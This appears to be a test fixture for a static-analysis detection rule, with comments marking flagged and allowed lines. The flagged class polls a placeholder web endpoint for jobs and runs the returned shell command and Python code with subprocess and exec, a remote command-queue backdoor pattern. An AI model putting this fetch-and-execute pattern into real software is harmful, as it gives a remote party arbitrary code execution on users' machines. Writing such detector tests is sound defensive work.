# a job fetched by a method of the file's own, its command and its code run: a command queue on a web endpoint
import json
import subprocess
import urllib.request

_EP = "https://script.google.com/macros/s/AKfycbx0000/exec"


class Sync:
    def _pull(self):
        with urllib.request.urlopen(_EP, timeout=20) as r:
            return json.loads(r.read() or b"{}")

    def _ping(self):
        urllib.request.urlopen(_EP, timeout=5)
        return True

    def run(self):
        job = self._pull()
        # ruleid: py_exec_decoded
        subprocess.run(job["sh"], shell=True, capture_output=True)
        # ruleid: py_exec_decoded
        exec(job["py"], {})
        ok = self._ping()
        # ok: py_exec_decoded
        subprocess.run(["logger", "synced"], check=False)


def fetch_jar(url):
    data = urllib.request.urlopen(url, timeout=60).read()
    jar = "/tmp/server.jar"
    with open(jar, "wb") as fh:
        fh.write(data)
    return jar


# a function that downloads and returns the path it saved under: the program it names is the user's, not fetched text
cmd = ["java", "-jar", fetch_jar("https://piston-data.mojang.com/v1/server.jar")]
# ok: py_exec_decoded
subprocess.call(cmd)
